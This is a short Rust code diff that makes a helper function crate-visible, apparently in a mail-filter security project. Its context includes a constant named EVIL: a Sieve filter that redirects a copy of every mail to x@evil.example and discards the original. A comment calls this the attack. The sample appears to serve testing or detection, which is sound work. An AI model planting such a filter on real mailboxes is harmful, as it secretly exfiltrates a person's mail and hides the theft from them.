@@ -18,7 +18,7 @@ pub(crate) const OWN: &str =
 /// The attack: every mail goes to somebody else too, and the person sees none of it.
 pub(crate) const EVIL: &str = "require \"copy\";\r\nredirect :copy \"x@evil.example\";\r\ndiscard;\r\n";
 
-fn fact<'a>(hold: &'a HoldView, label: &str) -> Option<&'a str> {
+pub(crate) fn fact<'a>(hold: &'a HoldView, label: &str) -> Option<&'a str> {
     hold.facts.iter().find(|fact| fact.label == label).map(|fact| fact.value.as_str())
 }
 
